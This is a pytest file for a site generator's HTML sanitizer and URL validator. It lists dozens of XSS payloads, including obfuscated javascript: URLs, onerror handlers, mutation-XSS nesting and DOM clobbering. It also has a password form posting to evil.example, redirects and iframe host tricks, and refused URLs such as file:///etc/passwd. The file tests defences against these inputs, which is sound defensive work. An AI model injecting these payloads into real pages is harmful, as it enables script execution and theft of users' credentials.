"""Hostile HTML: nothing of it can run, whatever its form."""

from __future__ import annotations

import json
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sitegen.render.html.sanitize import sanitize
from sitegen.safe_urls import frame_url, safe_url
from tests.examples import examples
from tests.render.html.cleaned import SHARED, clean, faults

_TAG = re.compile(r'<[a-z][a-z0-9]*(?: [a-z][a-z0-9-]*="[^"<>]*")*>|</[a-z][a-z0-9]*>')
_INSIDE_FRAME = re.compile("(<iframe[^<>]*>).*?(?=</iframe>)", re.DOTALL)  # text shown nowhere


@pytest.mark.parametrize(
    "payload",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math><mtext></p><style><!--</style><img title='--&gt;&lt;img src onerror=x&gt;'>",
        '<a href="javascript:alert(1)">x</a>',
        '<a href="java&#9;script:alert(1)">x</a>',
        '<a href="\u2028javascript:alert(1)">x</a>',
        '<a href=" &#14; javascript:alert(1)">x</a>',
        '<a href="javascript&colon;alert(1)">x</a>',
        '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
        '<img srcset="a.png 1x, javascript:alert(1) 2x">',
        '<form action="https://evil.example/"><input name=password><button>in</button></form>',
        '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=//e.example">',
        '<iframe srcdoc="<script>x</script>" src="https://a.hf.space/"></iframe>',
        '<iframe src="https://evilhf.space/"></iframe>',
        '<iframe src="https://x.hf.space.evil.example/"></iframe>',
        '<iframe src="https://evil.example%2f.hf.space/"></iframe>',
        '<iframe src="https://a.hf.space@evil.example/"></iframe>',
        '<iframe src="https://a.hf.space\\@evil.example/"></iframe>',
        '<iframe src="https://a.hf.space/" sandbox="allow-top-navigation"></iframe>',
        '<div style="position:fixed;inset:0;background:url(https://e.example/)">x</div>',
        '<div style="width:expr\\65ssion(alert(1));color:red/**/">x</div>',
        "<img id=location><a id=document name=cookie>x</a>",
        '<div class="sg-header a">x</div>',
        "<div class='x\"sg-header'>x</div>",
        "<textarea><title><plaintext><xmp>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
        "<select><template><option><style></select><script>alert(1)</script>",
        "<!--><img src=x onerror=alert(1)>-->",
        "<a title='\"' href='x' b=\"'\" onclick=alert(1)>x</a>",
        "<a title=`x onclick=alert(1)`>x</a>",
        '<p title="x" title="y" onclick=z/onmouseover=q>x',
        "<?php <img src=x onerror=1>?>",
        "<![CDATA[<img src=x onerror=1>]]>",
    ],
)
def test_nothing_in_a_payload_can_run(payload: str) -> None:
    html = clean(payload)
    assert list(faults(html)) == []
    assert list(faults(sanitize(payload))) == [
        fault for fault in faults(sanitize(payload)) if fault.startswith(("id ", "class "))
    ]
    assert sanitize(html) == html


@pytest.mark.skipif(not SHARED.exists(), reason="the shared cases are not here")
@pytest.mark.parametrize("corpus", ["owasp_xss", "html5lib_sanitizer", "ammonia", "hostile_rows"])
def test_nothing_in_the_published_corpora_can_run(corpus: str) -> None:
    cases = json.loads((SHARED / "cases" / f"{corpus}.json").read_text("utf-8"))
    payloads = [case.get("payload") or case.get("row", {}).get("text") for case in cases]
    for payload in filter(None, payloads):
        html = clean(payload[:20_000])
        assert (payload[:200], list(faults(html))) == (payload[:200], [])
        assert sanitize(html) == html


def test_a_frame_is_sandboxed_whatever_it_asks_for() -> None:
    html = clean('<iframe src="https://a.hf.space/" allow="camera" sandbox="" width=9>w</iframe>')
    assert html == (
        '<iframe src="https://a.hf.space/" width="9" title="Embedded page of a.hf.space" '
        'sandbox="allow-scripts allow-same-origin '
        'allow-forms allow-popups allow-popups-to-escape-sandbox" loading="lazy" '
        'referrerpolicy="strict-origin-when-cross-origin" allow="fullscreen; picture-in-picture; '
        'encrypted-media; clipboard-write"></iframe>w'
    )


def test_a_frame_of_another_host_becomes_a_link_to_it() -> None:
    link = '<a href="https://e.org/?a&amp;b" rel="noopener noreferrer">https://e.org/?a&amp;b</a>'
    assert clean('<iframe src="https://e.org/?a&amp;b"></iframe>') == link
    assert clean('<iframe src="javascript:x"></iframe>') == ""


def test_youtube_is_framed_without_cookies() -> None:
    assert (
        frame_url("https://www.youtube.com/embed/x") == "https://www.youtube-nocookie.com/embed/x"
    )


@pytest.mark.parametrize(
    "url",
    [
        "", "#x", "a/b.md", "../x?y=1:2", "/x", "./this:that", "https://e.org/{username}/x",
        "http://e.org:80/a@b", "HTTPS://E.org", "mailto:a@b.org", "?q=a\\b", "x#a:b", "é/ü",
    ],
)  # fmt: skip
def test_an_ordinary_url_is_safe(url: str) -> None:
    assert safe_url(url)


@pytest.mark.parametrize(
    "url",
    [
        "javascript:x", "JaVaScRiPt:x", " javascript:x", "java\nscript:x", "\u200bjavascript:x",
        "java\u00adscript:x", "data:text/html,x", "vbscript:x", "tel:1", "blob:x", "ms-msdt:x",
        "file:///etc/passwd", "//e.org", "/\\e.org", "\\\\e.org", "///e.org", "https:e.org",
        "https:///e.org", "https://u:p@e.org/", "https://[::1", "https://e.org:x/", "a b:c",
        "x\x00", "https://e.org\\@f.org", "a\ud800", "https://", "\u202ehttps://e.org",
    ],
)  # fmt: skip
def test_a_url_with_a_trick_is_refused(url: str) -> None:
    assert not safe_url(url)


def test_a_mail_address_is_no_image() -> None:
    assert not safe_url("mailto:a@b.org", image=True)


@pytest.mark.parametrize(
    "raw",
    [
        "<p title='<table x>'>a > b &lt; c</p>",
        "<p title='a\"<b>\"' data-a='<!--' class='<p>' aria-label='</p>'>x</p>",
        "<p data-<table=x data-'=x data-\"q=x data-é=x aria-<=x data-=x>y</p>",
        "<iframe title='></iframe><img src=x>' src='https://a.hf.space/'></iframe>",
        "<iframe src='https://a.hf.space/'><p title=\"<table></iframe><p title='\"<b>'>x</p>",
        "<iframe><table></iframe>",
        "<iframe src='https://a.hf.space/' data-a1='b'><img src=x onerror=a()></iframe>b",
        "<p title='&lt;'>x=\"</p><p>y</p>",
        "<noscript><p title='</noscript><img src=x>'></noscript>",
    ],
)
def test_in_a_finished_body_what_looks_like_a_tag_is_one(raw: str) -> None:
    html = sanitize(raw)
    assert "<" not in _TAG.sub("", _INSIDE_FRAME.sub(r"\1", html))
    assert list(faults(html)) == []
    assert sanitize(html) == html


@given(st.text(alphabet="<>/='\"!-& \n\x00abscriptvgon:\ud800", max_size=60))
@examples(300)
def test_no_jumble_of_characters_gets_through(raw: str) -> None:
    html = clean(raw)
    assert list(faults(html)) == []
    assert list(faults(sanitize(html))) == []
